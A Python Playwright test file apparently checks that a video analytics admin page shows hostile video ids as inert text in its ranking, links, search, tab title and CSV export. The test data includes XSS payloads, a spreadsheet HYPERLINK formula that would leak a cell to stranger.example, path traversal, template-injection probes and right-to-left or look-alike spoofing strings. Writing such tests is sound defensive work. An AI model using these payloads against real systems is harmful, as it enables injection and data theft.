"""Ids with HTML, control characters, formulas and the like are shown as plain text: nothing runs, moves or hides."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import urlencode

import pytest
from playwright.sync_api import expect

from tests.browser.admin.counts import Counts
from tests.browser.admin.visit import Visit, eventually, path_of

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tests.browser.admin.database import Database
    from tests.browser.admin.stack import AdminStack
    from tests.browser.admin.web import Web

pytestmark = pytest.mark.parametrize("stack", ["sqlite"], indirect=True)

IDS = {
    "an image": "<img src=x onerror=alert(1)>",
    "a script": "</a><script>alert(1)</script>",
    "a formula": '=HYPERLINK("http://stranger.example/?"&A1,"click")',
    "right to left": "a\u202egpj.exe\u2066b",
    "nothing to see": "zero\u200bwidth\ufeff\u00ad",
    "an emoji of many": "👩‍👩‍👧‍👦 🏳️‍🌈",
    "no break": "W" * 128,
    "slashes": "/a//b/",
    "percent signs": "100%25%zz%",
    "a query": "what?range=all&q=1",
    "a fragment": "#content",
    "spaces": "  spaced  out ",
    "steps": "../../session",
    "quotes": "\"'`{{7*7}}${7*7}",
    "backslashes": "\\a\\..\\b",
    "another script": "مرحبا",
    "an address": "https://stranger.example/",
    "a script's address": "javascript:alert(1)",
    "plain": "intro",
    "a non-joiner in it": "in\u200ctro",
    "a joiner in it": "in\u200dtro",
    "a selector behind it": "intro\ufe0f",
    "a tag in it": "int\U000e0061ro",
    "a Cyrillic letter": "\u0456ntro",
    "a heap of marks": "e" + "\u0301" * 120,
    "nothing but joiners": "\u200d" * 128,
    "one long syllable": "\u0915\u094d" * 64,
}
LOOK_ALIKES = ("plain", "a non-joiner in it", "a joiner in it", "a selector behind it", "a tag in it")
STEPS = (".", "..")
"""No address can hold these ids, because a browser resolves them as path segments."""
SEEN = date(2026, 1, 1)
NARROW_PIXELS = 320
MOST_LINES = 3
"""Rows of long ids are cut to this many lines, and are at most two lines higher than that of a plain id."""

# Characters that reorder others or are invisible, and spaces at the ends.
_HIDDEN = re.compile(
    "[\\u00ad\\u200b\\u200c\\u202e\\u2066\\ufeff\\U000e0061]+|^ +| +$|\\u0301{5,}"
    "|(?<=in)\\u200d(?=tro)|(?<=intro)\\ufe0f|^\\u200d+$"
)
_FORMULA = re.compile(r"\s*[=+\-@]")


@pytest.fixture(scope="module")
def web(sqlite_stack: AdminStack, own_database: Database) -> Iterator[Web]:
    """A web process on a database with only these videos, each watched once more than the previous one."""
    own_database.write(_history())
    with sqlite_stack.another_web(PULSE_DATABASE_URL=own_database.url) as web:
        yield web


@pytest.fixture
def narrow(guest: Visit, web: Web) -> Visit:
    """A visitor with a small phone who sees all of them, of all time."""
    guest.page.set_viewport_size({"width": NARROW_PIXELS, "height": 640})
    return guest.at(web.url).enter().open("/admin?range=all")


def test_the_ranking_shows_strange_ids_as_text(narrow: Visit) -> None:
    expected = [(_shown(video_id), f"{count:,}") for video_id, count in _history().ranking()]
    eventually(lambda: [(row.video, row.views) for row in narrow.ranking()], expected)
    assert narrow.overflow() == 0
    assert narrow.page.locator("main :is(img, script, iframe)").count() == 0


@pytest.mark.nightly
def test_each_link_leads_to_a_page_that_survives_a_reload(narrow: Visit) -> None:
    found = {}
    for name, video_id in IDS.items():
        narrow.video_link(video_id).click()
        clicked = _page_of_a_video(narrow)
        narrow.page.reload()
        found[name] = (clicked, _page_of_a_video(narrow))
        narrow.page.go_back()
        narrow.table.wait_for()
    assert found == {name: (_expected_page(video_id),) * 2 for name, video_id in IDS.items()}


def test_ids_that_differ_only_in_invisible_characters_look_different(narrow: Visit) -> None:
    pictures = {narrow.video_link(IDS[name]).screenshot() for name in LOOK_ALIKES}
    assert len(pictures) == len(LOOK_ALIKES)
    assert (
        narrow.video_link(IDS["a Cyrillic letter"]).locator("bdi").get_attribute("title") == "Not Latin: \u0456 U+0456"
    )


def test_an_id_cannot_reorder_the_title_of_the_tab(narrow: Visit) -> None:
    narrow.open(f"{path_of(IDS['right to left'])}?range=all")
    expect(narrow.page).to_have_title("aU+202Egpj.exeU+2066b \u00b7 pulse")


@pytest.mark.parametrize("width", [390, 1280])
def test_no_id_breaks_the_layout(narrow: Visit, width: int) -> None:
    narrow.page.set_viewport_size({"width": width, "height": 844})
    eventually(narrow.overflow, 0)
    plain = _height(narrow, "plain")
    assert {name: lines for name in IDS if (lines := round(_height(narrow, name) / plain, 1)) > MOST_LINES} == {}
    for count in narrow.table.locator("td.count").all():
        box = count.bounding_box()
        assert box is not None
        assert box["x"] + box["width"] <= width
    narrow.open(f"{path_of(IDS['a heap of marks'])}?range=all")
    eventually(narrow.overflow, 0)


def _height(visit: Visit, name: str) -> float:
    """The height of the row of a video, in pixels."""
    box = visit.video_link(IDS[name]).locator("xpath=ancestor::tr").bounding_box()
    assert box is not None
    return box["height"]


def test_dot_segments_are_shown_without_a_link(narrow: Visit) -> None:
    for video_id in STEPS:
        cell = narrow.table.get_by_role("rowheader", name=video_id, exact=True)
        expect(cell).to_be_visible()
        expect(cell.get_by_role("link")).to_have_count(0)


def test_strange_ids_can_be_searched_for(narrow: Visit) -> None:
    for name in ("an image", "a formula", "right to left", "percent signs", "spaces", "quotes"):
        video_id = IDS[name]
        narrow.search(video_id)
        eventually(lambda: [row.video for row in narrow.ranking()], [_shown(video_id)])
        assert narrow.address == f"/admin?{urlencode({'range': 'all', 'q': video_id}, safe='*')}"


def test_a_search_without_results_shows_its_prefix_as_text(narrow: Visit) -> None:
    narrow.search("<b onclick=alert(1)>no")
    expect(narrow.page.get_by_text("No video begins with “<b onclick=alert(1)>no”")).to_be_visible()
    assert narrow.overflow() == 0


def test_the_csv_holds_strange_ids_as_text(narrow: Visit) -> None:
    with narrow.page.expect_download() as download:
        narrow.link("Download CSV").click()
    text = Path(download.value.path()).read_bytes().decode()
    _, *rows = csv.reader(io.StringIO(text, newline=""))
    harmless = {_no_formula(video_id): count for video_id, count in _history().by_video().items()}
    assert {video_id: int(count) for video_id, count in rows} == harmless


def _page_of_a_video(visit: Visit) -> tuple[str, str | None, str | None, int]:
    """The address, the heading, the views of all time, and the overflow in pixels."""
    eventually(lambda: bool(visit.figures()), expected=True)
    heading = visit.page.get_by_role("heading", level=1).text_content()
    return visit.address, heading, visit.figures().get("Views of all time"), visit.overflow()


def _expected_page(video_id: str) -> tuple[str, str, str, int]:
    return f"{path_of(video_id)}?range=all", _shown(video_id), f"{_history().by_video()[video_id]:,}", 0


def _history() -> Counts:
    return Counts({(video_id, SEEN): number for number, video_id in enumerate([*IDS.values(), *STEPS], start=1)})


def _shown(video_id: str) -> str:
    """The text that the page shows for an id, with hidden characters named."""
    return _HIDDEN.sub(lambda found: " ".join(f"U+{ord(each):04X}" for each in found[0]), video_id)


def _no_formula(video_id: str) -> str:
    return f"'{video_id}" if _FORMULA.match(video_id) else video_id
